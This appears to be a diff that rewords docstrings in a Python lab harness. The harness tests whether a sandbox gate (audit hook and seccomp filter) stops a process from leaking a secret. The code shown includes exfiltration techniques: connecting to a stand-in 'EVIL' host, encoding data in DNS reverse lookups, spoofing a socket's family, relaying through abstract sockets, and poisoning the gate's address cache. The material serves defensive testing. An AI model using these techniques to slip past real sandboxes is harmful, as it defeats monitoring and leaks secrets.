@@ -1,9 +1,9 @@
-"""Ways to get a byte, or a question to a name server, out of a process past its gate.
+"""Try to send a byte, or a query to a name server, out of a process past its gate.
 
 `python -m lab.real.ways_out MODE` tries each in the network namespace it is started in, and prints
 one line of JSON per way. MODE is `hook` (the audit hook alone), `kernel` (the seccomp filter alone)
 or `both`. The allowed destination is http://allowed.example:8443; another process is the
-outside, and reports the bytes and questions that reach it.
+outside, and reports the bytes and queries that reach it.
 """
 
 import _socket
@@ -42,7 +42,7 @@ Way = Callable[[str], Any]  # takes the secret that must not get out
 
 
 def stand_outside() -> None:
-    """Serve DNS, TCP, UDP and a relay. For each line of stdin print all that arrived, as JSON.
+    """Serve DNS, TCP, UDP and a relay. For each line of stdin print all received data as JSON.
 
     If the line is a port, connect to it before.
     """
@@ -107,13 +107,13 @@ def tcp(sock: socket.socket, address: Any, secret: str) -> None:
 
 
 def program(secret: str) -> list[str]:
-    """Return the command of a program that connects to the stranger."""
+    """Return a command that connects to the stranger."""
     code = f"import socket; socket.create_connection({EVIL}).send({secret.encode()!r})"
     return [sys.executable, "-c", code]
 
 
 class SaysUnix(socket.socket):
-    """A socket that says that it is of the machine."""
+    """A socket that claims the family AF_UNIX."""
 
     family = property(lambda _: socket.AF_UNIX)
 
@@ -182,12 +182,12 @@ async def unconnected_endpoint(secret: str) -> None:
 
 
 async def reverse(_secret: str) -> None:
-    """Ask for the name of an address."""
+    """Look up the name of an address."""
     await asyncio.get_running_loop().getnameinfo((STRANGER, 443), 0)
 
 
 def hidden_in_address(_secret: str) -> None:
-    """Ask for the name of an address that is made of data."""
+    """Look up the name of an address that is made of data."""
     socket.getnameinfo(("2ad0:5345:4352:4554:2d44:4154:4121:0001", 443), 0)
 
 
@@ -236,7 +236,7 @@ def native_client(_secret: str) -> None:
 
 
 def accepted(secret: str) -> None:
-    """Send on a connection that somebody else makes."""
+    """Send on an accepted connection."""
     with socket.create_server(("0.0.0.0", DIALED_PORT)) as server:
         send_on_accepted(server, secret)
 
@@ -249,7 +249,7 @@ def accepted_unbound(secret: str) -> None:
 
 
 def send_on_accepted(server: socket.socket, secret: str) -> None:
-    """Let the outside connect, and send."""
+    """Let the outside connect, then send."""
     outside.ask(server.getsockname()[1])
     server.settimeout(5)
     server.accept()[0].sendall(secret.encode())
@@ -257,12 +257,12 @@ def send_on_accepted(server: socket.socket, secret: str) -> None:
 
 
 def relayed(secret: str) -> None:
-    """Hand it to a neighbour by an abstract socket."""
+    """Send it to another process by an abstract socket."""
     tcp(socket.socket(socket.AF_UNIX), RELAY, secret)
 
 
 def remembered(secret: str) -> None:
-    """Add the stranger to the gate's own memory."""
+    """Add the stranger to the gate's resolved addresses."""
     gate._addresses[EVIL] = float("inf")
     try:
         tcp(socket.socket(), EVIL, secret)
@@ -337,7 +337,7 @@ WAYS: dict[str, Way] = {
 
 
 class Outside:
-    """The process that is the outside."""
+    """The outside process."""
 
     def __init__(self) -> None:
         command = [sys.executable, "-m", "lab.real.ways_out", "outside"]
@@ -346,21 +346,21 @@ class Outside:
         )
         assert self._process.stdin
         assert self._process.stdout
-        self._ask, self._told = self._process.stdin, self._process.stdout
-        assert self._told.readline() == "ready\n"
+        self._ask, self._reported = self._process.stdin, self._process.stdout
+        assert self._reported.readline() == "ready\n"
         self._early: list[str] = []  # read, and not yet returned
 
     def ask(self, port: int | str = "") -> None:
-        """Ask for what has reached it, after it has connected to a port."""
+        """Request the received data, after it has connected to a port."""
         self._ask.write(f"{port}\n")
         self._ask.flush()
 
     def answer(self) -> None:
         """Read the answer to `ask`, for the next `received`."""
-        self._early += json.loads(self._told.readline())
+        self._early += json.loads(self._reported.readline())
 
     def received(self) -> list[str]:
-        """Return what has reached it since the last call."""
+        """Return the data received since the last call."""
         self.ask()
         self.answer()
         came, self._early = self._early, []
@@ -368,7 +368,7 @@ class Outside:
 
 
 def prepare_network(directory: Path) -> None:
-    """Give this namespace two addresses, and the outside as its name server."""
+    """Configure this namespace: two addresses, and the outside as its name server."""
     for command in (
         ["ip", "link", "set", "lo", "up"],
         ["ip", "address", "add", f"{ALLOWED}/32", "dev", "lo"],
@@ -385,7 +385,7 @@ def prepare_network(directory: Path) -> None:
 
 
 def attempt(name: str, way: Way, secret: str) -> dict[str, Any]:
-    """Try one way; return what reached the outside."""
+    """Try one way; return the data that reached the outside."""
     before, error = len(refused), ""
     try:
         way(secret)
